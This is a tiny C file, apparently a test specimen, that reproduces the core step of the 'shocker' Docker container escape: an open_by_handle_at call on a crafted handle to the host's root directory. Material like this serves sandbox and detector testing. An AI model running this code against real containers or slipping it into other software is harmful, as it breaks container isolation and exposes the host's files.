/* Files by number, past every folder: the Docker escape "shocker". */
#include "specimen.h"

int main(void) {
  struct {
    unsigned size;
    int type;
    unsigned char bytes[8];
  } root = {8, 1, {2}};
  syscall(SYS_open_by_handle_at, open("/", O_RDONLY), &root, O_RDONLY);
  return hello();
}
